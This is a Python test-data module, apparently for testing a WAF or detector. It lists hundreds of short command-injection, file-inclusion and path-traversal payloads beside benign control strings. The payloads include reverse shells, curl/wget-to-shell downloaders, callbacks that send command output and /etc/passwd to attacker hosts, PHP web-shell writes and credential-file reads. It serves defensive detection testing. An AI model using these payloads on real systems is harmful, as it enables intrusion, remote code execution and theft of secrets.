"""Blind set "hundredfortyfirst": the shortest payload that still works, for OS command injection (rce), local
file inclusion / path traversal (lfi) and remote file inclusion (rfi), with benign requests that carry the same
product names, commands, file names and URL shapes innocently.

The angle: a bug-bounty hunter facing a field limited to 8, 16, 24 or 32 characters, or a filter that rejects
anything long, writes the minimal form of each family: the fewest characters that still reach the target (the
shell behind system()/popen(), cmd.exe, PowerShell, bash's function import, PHP's include() and its stream
wrappers, a file reader that joins a user path) and do something observable (command output, a delay, a DNS or
HTTP callback, a file written or read, a shell connecting back, remote code included). Every family has payloads
at three lengths: about a third at 12 characters or fewer, a third at 13-24 and a third at 25-40; none is longer
than 40. Short attacker hosts are what hunters really use for this: an interactsh host (c.oast.me), a lab IP in
its short inet_aton form (10.1 is 10.0.0.1), a file host (0x0.st, pastebin raw, transfer.sh). Each payload names
its real target in the comment above its list.

Families (the `sub` of each record):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-expression-evasion (quotes, ${IFS}, globbing,
    brace expansion, variables, ANSI-C quoting), windows-cmd-injection, powershell, unix-command-names-with-paths,
    reverse-shells (bash /dev/tcp, nc, socat, telnet, busybox, perl/python stagers), shellshock, downloaders
    (curl / wget / fetch / tftp piped to a shell), file-write-via-shell (redirection, tee, dd, cp),
    restricted-file-names-in-commands (commands that read secrets: shadow, .env, id_rsa, .htpasswd)
  lfi: path-traversal (../ and ..\\ plain, percent, double, overlong UTF-8, %u, filter-strip bypasses),
    os-file-access (/etc/passwd, /proc/self/*, win.ini, boot.ini, web.config, .htaccess, .git/, .env, id_rsa),
    absolute-paths, null-byte-truncation, php-wrapper-lfi (php://filter and input, zip, phar, glob,
    compress.zlib), log-poisoning-targets (web server, auth and mail logs, PHP session files, /proc/self/fd),
    restricted-file-extensions (.bak, .old, .orig, .swp, .config, .ini, .sql)
  rfi: url-with-ip-address (dotted, short, decimal, hex, octal, IPv6), url-with-trailing-question-mark,
    include-parameter-with-url (page=, file=, template=, include=, path= ... with a URL, sent as the
    parameter itself), off-domain-reference (attacker host names, file hosts, protocol-relative, allowlist
    tricks), protocols (ftp, ftps, smb, UNC and WebDAV UNC, data:, expect:, jar:, tftp, sftp, chained wrappers)

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Shellshock goes where bash imports it (headers and cookies that
a CGI gateway turns into environment variables); the include-parameter payloads are `name=url` pairs and go
unquoted as the query or form body; payloads with a NUL byte or a newline avoid headers and XML.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import CONTROLS_BUT_NUL, BlindSet, Cycles
from .records import print_records

NAME = "hundredfortyfirst"

# ----------------------------------------------------------------------------------------------------------------
# --- rce ---------------------------------------------------------------------------------------------------------
# POSIX sh behind system()/popen() with the input concatenated into the command line (a ping or lookup tool)
UNIX_INJECTION = [
    ";id",
    "|id",
    "&&id",
    "`id`",
    "\nid",
    "\nsleep 9",
    "$(sleep 9)",
    "';id;echo '",
    "; cat /etc/passwd",
    "&& ping -c 9 127.1",
    "`nslookup c.oast.me`",
    "x\nhead /etc/passwd",
    "; nslookup $(whoami).c.oast.me",
    "|| curl c.oast.me/$(id|base64) #",
    "127.0.0.1; ping -c 12 127.0.0.1",
    "\" && wget -qO- c.oast.me/?u=$(id -u) #",
]
# bash / dash word expansion: quote removal, backslashes, empty expansions, ${IFS}, globs, braces, variables
UNIX_EVASION = [
    ";i''d",
    ";{id,}",
    ";\\i\\d",
    ";w\\hoami",
    ";who$@ami",
    ";wh$()oami",
    ";$'\\x69\\x64'",
    ";a=i;b=d;$a$b",
    "|sl''eep${IFS}9",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    ";/???/?at /???/p?ss??",
    ";$(printf '\\151\\144')",
    ";IFS=_;cmd=cat_/etc/passwd;$cmd",
    ";`echo${IFS}aWQ=|base64${IFS}-d`",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
]
# cmd.exe behind system() / CreateProcess("cmd /c ...") on Windows (IIS, a ping or backup utility)
WINDOWS_CMD = [
    "&dir",
    "&&ver",
    "||set",
    "|whoami",
    "|dir C:\\",
    "& net user",
    "\"&whoami&\"",
    "&w^h^o^a^m^i",
    "&timeout /t 9",
    "|ipconfig",
    "&ping -n 9 127.1",
    "&type C:\\boot.ini",
    "&echo %COMPUTERNAME%",
    "|type %WINDIR%\\win.ini",
    "&for %i in (*) do @echo %i",
    "&wmic process call create calc",
    "&nslookup %USERNAME%.c.oast.me",
    "&certutil -urlcache -f http://10.1/x",
]
# Windows PowerShell 5.1 / PowerShell 7 (a script built from input, or cmd.exe handing over to powershell)
POWERSHELL = [
    ";gci env:",
    ";gci C:\\",
    ";gps",
    ";iex whoami",
    ";Get-Process",
    ";iwr c.oast.me",
    ";&('who'+'ami')",
    ";.(gcm *hoam*)",
    "|pwsh -c whoami",
    ";ls \\\\10.1\\s",
    ";gc C:\\Windows\\win.ini",
    ";iwr -useb c.oast.me/s|iex",
    ";Invoke-Expression 'whoami'",
    "; whoami|%{iwr c.oast.me/$_}",
    "&powershell -e dwBoAG8AYQBtAGkA",
    "&powershell -c \"irm c.oast.me|iex\"",
    ";powershell -nop -w hidden -c whoami",
    ";[IO.File]::ReadAllText('C:\\boot.ini')",
]
# POSIX sh: programs called by their full path (a filter that blocks bare command names)
UNIX_PATHS = [
    ";/bin/id",
    ";/bin/w",
    ";/bin/ls /",
    ";/bin/uname",
    "|/usr/bin/id",
    ";/bin/ps aux",
    ";/bin/sleep 12",
    ";/bin/sh -c id",
    "&&/bin/env",
    "$(/bin/id)",
    "`/usr/bin/whoami`",
    "$(/bin/cat /etc/passwd)",
    ";/usr/bin/getent passwd",
    "||/usr/bin/curl c.oast.me",
    ";/usr/bin/perl -e 'sleep 9'",
    ";/usr/bin/nslookup c.oast.me",
    ";/usr/local/bin/php -r 'phpinfo();'",
    "|/bin/busybox telnetd -p 9999 -l /bin/sh",
]
# a shell on the server that connects back (or binds): bash /dev/tcp, nc, socat, telnet, busybox, stagers
REVERSE_SHELLS = [
    "|nc -lp9|sh",
    "nc 10.1 9|sh",
    "nc -lp9 -esh",
    ";nc 10.1 9 -esh",
    ";bash</dev/tcp/10.1/9",
    "|socat tcp-l:9 exec:sh",
    ";nc 10.1 9|sh|nc 10.1 8",
    ";busybox nc 10.1 9 -esh",
    ";perl -e\"$(curl 10.1/r)\"",
    "|nc 10.0.0.5 9 -e/bin/sh",
    ";socat tcp:10.1:9 exec:sh",
    ";mkfifo f;nc 10.1 9<f|sh>f",
    ";sh -i>&/dev/tcp/10.1/9 0>&1",
    ";telnet 10.1 9|sh|telnet 10.1 8",
    ";exec 5<>/dev/tcp/10.1/9;sh<&5>&5",
    ";bash -c 'sh>&/dev/tcp/10.1/9 0>&1'",
    ";bash -i >& /dev/tcp/10.0.0.5/443 0>&1",
    ";openssl s_client -connect 10.1:9|sh",
]
# bash < 4.3 importing a function from an environment variable (CGI headers): CVE-2014-6271, -7169, -6278
SHELLSHOCK = [
    "() { (a)=>\\",
    "() { :;};w",
    "() { :;};id",
    "() { x;};id",
    "() { :;};ls",
    "() { :;};ps",
    "() { :;};echo;id",
    "() { :;};sleep 9",
    "() { ignored;};id",
    "() { :;}; /bin/id",
    "() { :;};/bin/sleep 10",
    "() { :;};ping -c9 127.1",
    "() { :;};curl c.oast.me",
    "() { :;};wget -qO- 10.1|sh",
    "() { :;};nslookup c.oast.me",
    "() { :; }; echo; /usr/bin/id",
    "() { _; } >_[$($())] { id; }",
    "() { :;}; /bin/cat /etc/passwd",
    "() { 0;};sh -i>&/dev/tcp/10.1/9 0>&1",
]
# POSIX sh fetching a script (or exfiltrating) with curl, wget, fetch, tftp, and running it
DOWNLOADERS = [
    ";wget 10.1",
    "|curl 10.1",
    ";fetch 10.1",
    "`curl 10.1`",
    "$(curl 10.1)",
    ";curl 10.1|sh",
    "$(wget -qO- 10.1)",
    ";wget -O- 10.1|sh",
    ";fetch -o- 10.1|sh",
    "|php -r\"$(curl 10.1)\"",
    ";curl 10.1/$(id|base64)",
    ";tftp -g -r x 10.1;sh x",
    "|wget -qO- c.oast.me/s|sh",
    ";python3 -c\"$(curl 10.1)\"",
    ";busybox wget 10.1/s -O-|sh",
    ";curl -so/tmp/x 10.1;sh /tmp/x",
    ";wget 10.1/x -O/tmp/x;sh /tmp/x",
    ";lwp-download http://10.1/x /tmp/x",
]
# POSIX sh writing into the web root, /tmp or ~/.ssh (redirection, tee, dd, cp, here-strings)
FILE_WRITE = [
    ";>x.php",
    ";id>o.txt",
    ";ls>l.txt",
    ";id|tee o",
    ";env>e.txt",
    ";id>/tmp/o",
    ";touch /tmp/p",
    "$(id>/dev/shm/o)",
    ";uname -a>>/tmp/log",
    ";cp /etc/passwd p.txt",
    ";ls -la>/var/www/html/l",
    ";dd if=/etc/passwd of=p.txt",
    ";sed -n p /etc/shadow>s.txt",
    ";echo '<?=`$_GET[0]`?>'>s.php",
    ";tee s.php<<<'<?=`$_GET[0]`?>'",
    ";printf '<?=`$_GET[0]`;'>x.php",
    ";curl 10.1/k>>~/.ssh/authorized_keys",
    ";base64 -d>s.php<<<PD89YCRfR0VUWzBdYDs=",
]
# POSIX sh / cmd.exe reading files that hold secrets (the restricted file names inside a command)
RESTRICTED_IN_CMD = [
    ";cat .env",
    ";xxd .env",
    ";cat *.pem",
    ";cat .my.cnf",
    ";less .env",
    ";cat .netrc",
    ";more .npmrc",
    ";nl .htpasswd",
    ";cat ~/.pgpass",
    ";cat /etc/shadow",
    ";cat .git/config",
    "|cat ~/.ssh/id_rsa",
    ";od -c /etc/shadow",
    ";find / -name id_rsa",
    ";cat /root/.bash_history",
    ";base64 ~/.aws/credentials",
    "&&curl -T /etc/passwd 10.1",
    ";strings /proc/self/environ",
    ";grep -ri password /var/www",
    "&type C:\\inetpub\\wwwroot\\web.config",
]

# --- lfi ---------------------------------------------------------------------------------------------------------
# a file handler that joins the input to its base directory (PHP include, send_file, Express static, IIS);
# the encoded forms reach it when a proxy or the app decodes once more, or decodes overlong / %u sequences
PATH_TRAVERSAL = [
    "../../.env",
    "..\\.env",
    "..%5c.env",
    "../app.py",
    "..\\..\\.env",
    "....//.env",
    "..%2f.env",
    "%2e%2e/.env",
    "../.git/HEAD",
    "..%c0%af.env",
    "..\\web.config",
    "../../../../etc/passwd",
    "....//....//etc/passwd",
    "..././..././etc/passwd",
    "..%252f..%252fetc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/%2e%2e/%2e%2e/etc/passwd",
    "..%5c..%5cwindows%5cwin.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%u2215..%u2215etc%u2215passwd",
    "..%ef%bc%8f..%ef%bc%8fetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
]
# a file reader given the name of a sensitive OS / application file (relative to / or the app root)
OS_FILES = [
    ".env",
    "id_rsa",
    "win.ini",
    "boot.ini",
    ".git/HEAD",
    ".htaccess",
    ".htpasswd",
    "etc/passwd",
    "web.config",
    ".git/config",
    ".ssh/id_rsa",
    "C:\\boot.ini",
    "/etc/shadow",
    "/proc/version",
    "/proc/self/maps",
    "WEB-INF/web.xml",
    "/root/.ssh/id_rsa",
    "C:/Windows/win.ini",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/cwd/app.py",
    "/etc/ssh/ssh_host_rsa_key",
    "/proc/self/root/etc/shadow",
    "/home/ubuntu/.bash_history",
    "file:///c:/windows/win.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
]
# open() / os.path.join / Path.resolve where an absolute path replaces the base directory
ABSOLUTE_PATHS = [
    "/app/.env",
    "/etc/motd",
    "/etc/hosts",
    "/app/app.py",
    "/etc/issue",
    "/etc/group",
    "/etc/passwd",
    "c:/boot.ini",
    "//etc/passwd",
    "/var/www/.env",
    "\\\\?\\C:\\boot.ini",
    "file:/etc/passwd",
    "/usr/src/app/.env",
    "C:\\windows\\win.ini",
    "/etc/nginx/nginx.conf",
    "\\\\localhost\\c$\\boot.ini",
    "/etc/php/8.2/fpm/php.ini",
    "/etc/apache2/apache2.conf",
    "/etc/kubernetes/admin.conf",
    "/var/lib/mysql/mysql/user.MYD",
    "/usr/local/etc/nginx/nginx.conf",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "/etc/ssl/private/ssl-cert-snakeoil.key",
]
# PHP < 5.3.4 include / fopen and C-string file APIs: a NUL cuts the appended extension; %00 and %2500 reach an
# app that decodes again
NULL_BYTE = [
    "../.env\x00",
    ".env\x00",
    "boot.ini\x00",
    "config.php\x00",
    ".env%00.png",
    ".htaccess\x00",
    "web.config\x00",
    "id_rsa\x00.pub",
    "/etc/group\x00",
    "/etc/passwd\x00",
    "/etc/shadow%00",
    "..\\..\\boot.ini\x00",
    "/etc/passwd\x00.php",
    "C:\\boot.ini\x00.txt",
    "/etc/passwd%2500",
    "../../etc/passwd%00",
    "/proc/self/environ\x00",
    "../../etc/passwd\x00.jpg",
    "/root/.ssh/id_rsa\x00.txt",
    "....//....//etc/passwd\x00",
    "..%2f..%2fetc%2fpasswd%00",
    "..\\..\\..\\windows\\win.ini\x00",
    "../../../etc/passwd\x00.html",
    "../../../../../../etc/hosts\x00",
    "php://filter/resource=/etc/passwd\x00",
]
# PHP include / file_get_contents / readfile with a stream wrapper (PHP 7 and 8)
PHP_WRAPPERS = [
    "glob://*",
    "glob://.*",
    "glob://*.php",
    "glob://../*",
    "php://input",
    "PHP://input",
    "zip://u.zip#x",
    "phar://a.jpg/s",
    "glob:///var/www/*",
    "zip://a.zip#s.php",
    "phar:///tmp/u.jpg",
    "compress.zlib://.env",
    "zip:///tmp/phpA1b2C3#s",
    "compress.bzip2://a.bz2",
    "PHP://filter/resource=.env",
    "php://filter/resource=.env",
    "compress.zlib:///etc/passwd",
    "php://filter/resource=/etc/passwd",
    "php://filter/resource=php://input",
    "php://filter/dechunk/resource=.env",
    "php://filter/zlib.deflate/resource=.env",
    "php://filter/string.rot13/resource=a.php",
    "php://filter/resource=file:///etc/passwd",
]
# PHP include of a file the attacker can write PHP into: web server, auth, mail and FTP logs, session files,
# the process' own descriptors
LOG_TARGETS = [
    "error_log",
    "debug.log",
    "access_log",
    "access.log",
    "../error.log",
    "/var/log/wtmp",
    "/var/log/secure",
    "/proc/self/fd/2",
    "/var/log/auth.log",
    "/var/log/mail.log",
    "/tmp/sess_a1b2c3d4",
    "/var/mail/www-data",
    "/var/log/vsftpd.log",
    "../../logs/access.log",
    "/var/log/nginx/error.log",
    "/var/log/httpd/error_log",
    "storage/logs/laravel.log",
    "/var/log/nginx/access.log",
    "/opt/lampp/logs/access_log",
    "/var/log/apache2/access.log",
    "/var/lib/php/sessions/sess_x9",
    "C:\\xampp\\apache\\logs\\access.log",
    "/usr/local/apache2/logs/access_log",
]
# a web server that serves backup, editor and config files as plain text, or a download handler that reads them
RESTRICTED_EXT = [
    "db.sql",
    "my.ini",
    "users.sql",
    "php.ini",
    ".env.bak",
    "dump.sql",
    "config.ini",
    "app.config",
    "config.php~",
    "database.sql",
    "/etc/odbc.ini",
    "index.php.bak",
    "web.config.old",
    "../web.config.bak",
    "wp-config.php.old",
    "C:\\Windows\\php.ini",
    "../../db/backup.sql",
    "..\\..\\app.config.old",
    "applicationHost.config",
    "../../../etc/my.cnf.bak",
    "../../../../root/dump.sql",
    "../config/database.yml.bak",
    "../../conf/server.xml.orig",
    "/var/www/html/index.php.save",
    "..\\..\\inetpub\\wwwroot\\web.config.bak",
]

# --- rfi ---------------------------------------------------------------------------------------------------------
# PHP include()/require() with allow_url_include=On fetching code from an attacker's IP (short, decimal, hex,
# octal, IPv6 forms all resolve in PHP's and libc's parsers)
URL_IP = [
    "http://10.1",
    "ftp://10.1",
    "https://10.1",
    "ftp://10.1/s",
    "http://10.1/",
    "http://10.1/s",
    "https://10.1/x",
    "http://012.1/s",
    "http://1.3.3.7",
    "http://0xa000001",
    "http://1.3.3.7/s",
    "http://10.1:8080/s",
    "http://167772161/s",
    "http://10.1/shell.jpg",
    "http://[::ffff:a00:1]/s",
    "http://10.10.14.5/s.php",
    "http://203.0.113.9/c.php",
    "http://1.3.3.7/shell.txt",
    "http://45.33.32.156/s.txt",
    "http://10.10.14.5/rev.txt",
    "http://0x0a.0x0a.0x0e.5/s",
    "https://10.10.14.5:4443/x",
    "http://10.0.0.5:80/inc.php",
    "https://198.51.100.7/i.inc",
    "http://[2001:db8::7]/s.txt",
    "ftp://10.10.14.5/pub/s.php",
    "http://10.10.14.5:8000/x.txt",
    "http://192.168.1.50/shell.txt",
    "http://10.10.14.5/s.txt?cmd=id",
]
# PHP include($_GET['p'] . '.php') of a URL: the trailing '?' turns the appended extension into a query string
URL_QUESTION = [
    "http://10.1?",
    "ftp://10.1?",
    "ftp://10.1/?",
    "http://10.1/?",
    "ftp://10.1/s?",
    "http://10.1/s?",
    "HTTP://10.1/s?",
    "http://1.3.3.7/s?",
    "http://167772161?",
    "http://10.1/s.php?",
    "https://0x0.st/Hx2?",
    "http://c.oast.me/s?",
    "https://bit.ly/3xYz?",
    "http://c.oast.fun/?",
    "http://0xa000001/s?",
    "http://10.1/s.txt?x=",
    "http://c.oast.site/x?",
    "http://203.0.113.9/i?",
    "ftp://anonymous@10.1/s?",
    "http://[::ffff:a00:1]/?",
    "http://x.oast.pro/x.txt?",
    "https://a1b2.ngrok.io/s?",
    "https://c.oast.me/s.txt?",
    "http://100.64.0.7/b.txt?",
    "http://10.10.14.5:8000/x?",
    "https://c.oast.live/s.inc?",
    "http://192.168.1.50/s.txt?",
    "http://10.10.14.5/shell.txt?",
    "https://transfer.sh/a/s.txt?",
    "https://pastebin.com/raw/aB3d?",
    "http://10.10.14.5/php-reverse-shell.txt?",
]
# PHP include($_GET[...]) behind the parameter names that classic page loaders use; sent as the `name=url` pair
INCLUDE_PARAM = [
    "p=http://10.1",
    "p=ftp://10.1",
    "f=ftp://10.1",
    "file=http://10.1",
    "inc=http://10.1/x",
    "mod=http://10.1/m",
    "page=http://10.1?",
    "path=ftp://10.1/s",
    "pg=http://10.1/s?",
    "page=http://10.1/s",
    "page=HTTP://10.1/s",
    "show=http://10.1/s?",
    "lang=http://10.1/en?",
    "doc=http://1.3.3.7/s",
    "conf=ftp://10.1/c.txt",
    "config=http://10.1/c?",
    "template=http://10.1/t",
    "include=https://10.1/x",
    "content=http://10.1/c?",
    "layout=https://10.1/l?",
    "document=http://10.1/d?",
    "view=http://c.oast.me/v?",
    "include=http://167772161/i",
    "path=http://[::ffff:a00:1]/p",
    "file=http://10.1/s.txt&cmd=id",
    "module=http://10.10.14.5/m.txt",
    "template=ftp://10.10.14.5/t.txt?",
    "page=http://10.10.14.5/shell.txt?",
    "file=https://pastebin.com/raw/aB3d",
]
# include / template and script loaders pointed at a host name the attacker owns (OAST, file hosts, tunnels,
# cloud buckets), protocol-relative references and allowlist-prefix tricks
OFF_DOMAIN = [
    "//0x0.st/Hx",
    "//t.ly/Ab1",
    "//is.gd/a1B",
    "//rb.gy/x1z",
    "//c.oast.pro",
    "//c.oast.me",
    "//bit.ly/3xY",
    "//c.oast.fun",
    "//c.oast.live/s",
    "//c.oast.me/x.js",
    "http://c.oast.me",
    "https://bit.ly/3xYz",
    "https://c.oast.fun/s",
    "https://0x0.st/Hx2.txt",
    "http://c.oast.pro/s.txt",
    "https://a1b2.ngrok.io/s",
    "http://c.oast.site/i.inc",
    "https://tinyurl.com/2p8x",
    "http://c.oast.me/shell.txt",
    "https://transfer.sh/a/s.php",
    "https://b.s3.amazonaws.com/s",
    "https://pastebin.com/raw/aB3d",
    "http://x.burpcollaborator.net",
    "http://c.oast.me#.trusted.com",
    "https://trusted.com@c.oast.me/s",
    "https://trusted.com.c.oast.me/s",
    "https://s3.amazonaws.com/b/s.txt",
    "https://cdn.discordapp.com/a/s.txt",
    "https://storage.googleapis.com/b/s",
    "https://dl.dropboxusercontent.com/s/x",
]
# other schemes: PHP's data: and expect:// wrappers and chained wrappers, Windows UNC / WebDAV UNC paths (PHP on
# Windows opens them over SMB or WebClient), libcurl's ftp(s)/tftp/sftp, Java's jar:
PROTOCOLS = [
    "\\\\10.1\\s",
    "//10.1/s",
    "expect://w",
    "smb://10.1/s",
    "\\\\10.1\\s\\x",
    "expect://id",
    "expect://ls",
    "ftps://10.1/s",
    "tftp://10.1/s",
    "sftp://10.1/s",
    "\\\\10.1\\s\\x.php",
    "\\\\c.oast.me\\s",
    "data:,<?=`id`?>",
    "\\\\?\\UNC\\10.1\\s\\x",
    "file://10.1/s/x.php",
    "expect://curl 10.1|sh",
    "jar:http://10.1/x.jar!/",
    "\\\\c.oast.me@SSL\\s\\x.php",
    "expect://nc -e sh 10.1 9",
    "data:;base64,PD89YGlkYD8+",
    "data:,<?php system('id');",
    "ftp://10.10.14.5:21/s.txt",
    "ftp://anonymous:@10.1/s.php",
    "\\\\10.10.14.5\\share\\shell.php",
    "compress.zlib://http://10.1/s",
    "\\\\10.1@8080\\DavWWWRoot\\s.php",
    "data:text/plain,<?php phpinfo();?>",
    "php://filter/resource=http://10.1/s",
    "data://text/plain;base64,PD89YGlkYD8+",
    "data:;base64,PD9waHAgcGhwaW5mbygpOw==",
]

FAMILIES: list[tuple[str, str, list[str]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-expression-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_IN_CMD),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QUESTION),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# the include-parameter payloads are themselves `name=url`: they go unquoted as the query or form body
RAW_KV_SUBS = {"include-parameter-with-url"}
SUB_CYCLES = {
    "shellshock": (["header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version"],
                   ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie"]),
    "include-parameter-with-url": (["param-name", "form"], ["rs-param-name", "rs-raw-body"]),
}

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_NAMES = {"rce": ["q", "host", "name", "filter", "ip", "sort", "domain", "message", "callback"],
              "lfi": ["file", "page", "path", "template", "q", "name", "doc", "lang", "download"],
              "rfi": ["url", "page", "file", "template", "q", "include", "avatar_url", "website", "path"]}
RS_NAMES = {"rce": ["foo", "var", "x", "test", "id", "arg1", "cmd"],
            "lfi": ["file", "foo", "page", "x", "path", "test", "var"],
            "rfi": ["url", "foo", "page", "x", "include", "test", "var"]}


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    boundary = "----WebKitFormBoundary5hK2pQx9LmT7vRcA"
    kv_safe = "=&[]._-:/'*$!(),;{}~@?"
    form_accept = "*/*"
    raw_tail = True
    one_line = ("cookie", "rs-cookie", "path")   # the path: header_safe at any length, not short
    short = ()
    xml_places = ("xml", "rs-xml", "rs-raw-body")
    xml_controls = CONTROLS_BUT_NUL

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def name(self, category: str, sub: str, k: int) -> str:
        return REAL_NAMES[category][k % len(REAL_NAMES[category])]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        return RS_NAMES[category][k % len(RS_NAMES[category])]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return sub in RAW_KV_SUBS


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same commands, file names, products and URL shapes, typed innocently by the people who use this
# Slack user-management service (chat and bios, searches, admin notes, links, profiles, uploads, headers)
CHAT = [
    "can someone ping me when the staging deploy is done? I want to retest the user search",
    "curl -s https://api.example.com/health | jq . returns ok for me, so the gateway is up",
    "FYI the id column in the export is the Slack user id, not our internal one",
    "ran whoami on the build box and it's still the old jenkins user, will fix the agent",
    "the nightly backup writes backups/users-2024-06-01.sql.gz, restore steps are in the wiki",
    "please don't commit .env files, put secrets in the vault instead",
    "who owns the web.config for the IIS fallback? it still points at the old app pool",
    "my laptop was reimaged, new id_rsa.pub is attached to the access ticket",
    "PowerShell 7.4 installer is on the share, Get-Help works offline now",
    "the cron job uses wget to pull the holiday calendar every morning at 6",
    "ping to the db host shows 0.3 ms, the network is not the issue",
    "the bash script sleeps 10 seconds between retries, that's why the sync feels slow",
    "include the page number in the bug report please, e.g. page=3 of the users list",
    "the welcome template lives in templates/welcome.html, edit it there and not in the DB",
    "onboarding: clone the repo, copy .env.example to .env and run make up",
    "anyone know where the nginx access log went after the migration? /var/log/nginx is empty",
    "old config.ini.bak files got deleted in the cleanup, git has the history anyway",
    "the Windows agents run cmd /c build.bat, the Linux ones just run make",
    "Shellshock was 2014, our base images ship bash 5.2, we're fine",
    "the README links to http://127.0.0.1:8000 for local dev, that's expected",
    "nc -zv db 5432 is the quickest way to check the port is open from the pod",
    "socat is installed on the debug image only, not in prod",
    "pipe it through tee if you want to keep the full log and still watch it",
    "echo $PATH on the runner shows /usr/local/bin first, that's why the old node wins",
    "the ../ in the relative import broke after we moved the module, fixed in #812",
    "the audit flagged /etc/passwd as world-readable, which is normal on Linux",
    "win.ini? haven't touched that file since Windows 98",
    "the ftp:// links in the old partner docs are dead, use the https mirror",
    "the php.ini on staging has display_errors on, can someone turn it off",
    "session files are in /tmp by default, we're switching them to redis next sprint",
    "the .git folder shouldn't end up in the image, add it to .dockerignore",
    "rm -rf node_modules && npm ci usually fixes that error",
    "python3 -m http.server 8000 is enough to preview the static build",
    "the uploads folder is full of .old and .bak files from the 2019 migration",
    "the wget progress bar spam in CI logs goes away with -q",
    "cat the README first, the setup section covers the token dealer",
    "does anyone have the data: URI for the small logo? the email template needs it inline",
    "the expect script for the modem config is in tools/, please don't delete it",
    "kill -9 on the worker left a zombie, restarted the pod instead",
    "for the Windows folks: type is the cat equivalent in cmd",
    "the bug bounty report about path traversal in the legacy download page is patched",
    "PowerShell tip: iwr is short for Invoke-WebRequest",
    "the health check hits http://localhost:8080/healthz every 10 seconds",
    "log rotation keeps 7 days of access.log and error.log",
    "the page parameter is 1-based, page=0 returns the first page too",
    "the reverse proxy drops X-Forwarded-For on redirects, bug filed",
    "sleep well everyone, on-call is Sam this week",
    "the upload form rejects .exe and .sh files, which is intended",
    "using the IFS trick in the CSV script was a mistake, replaced it with python csv",
    "on Windows the export lands in C:\\Users\\yourname\\Downloads",
    "the include line in the Makefile pulls in common.mk",
    "traceroute from the office shows 12 hops to the data center",
    "the ssh config uses ProxyJump bastion, ask Dev for access",
    "mkdir -p /var/www/uploads && chown www-data fixed the permission error",
    "backup.sql is 4 GB now, we should compress it",
    "the /proc/meminfo panel in grafana looks off after the kernel update",
    "PowerShell remoting is disabled by group policy, use RDP",
    "the user with id 42 asked us to delete their account, done via the admin panel",
    "the SMB share for HR is read-only for contractors now",
    "reverse shells and bind shells are out of scope for the pentest, per the contract",
]
SEARCHES = [
    "Cat Nguyen", "Ping Li", "Ping Wu", "echo team", "shell account manager", "R&D", "sales & marketing", "AT&T",
    "Procter & Gamble", "who am i", "id 1042", "windows admins", "powershell", "linux", "file share", "page 2",
    "template admins", "include inactive", "curl", "bash", "ftp support", "backup", "ana.silva@example.org",
    "O'Connor", "d'Artagnan", "Jean-Luc", "netops", "home office", "root", "admin", "data team", "devops; sre",
    "Ana (contractor)", "Tee Chen", "Dir Hassan", "smb", "Path Finders", "env team", "web config", "log review",
]
PROSE = [
    "user reports the export link returns 404 after the last release",
    "password reset for contractor, verified by phone",
    "the ping check from the monitoring host fails intermittently",
    "ticket 4521: customer cannot upload files larger than 10 MB",
    "ask the user to clear the cache and try again (ctrl+shift+r)",
    "bash completion is missing on the jump host",
    "Windows users see a blank page in IE mode, tell them to use Edge",
    "customer pasted a PowerShell error into the ticket, looks like an execution policy issue",
    "wget fails behind the corporate proxy, needs https_proxy set",
    "the backup from last Tuesday restored fine on staging",
    "user cannot find the template file after the update",
    "log file rotation broke on the old VM",
    "reset 2FA for Dana, lost phone",
    "shell access request for the new data engineer",
    "merge duplicate accounts for jose@example.org and jose.r@example.org",
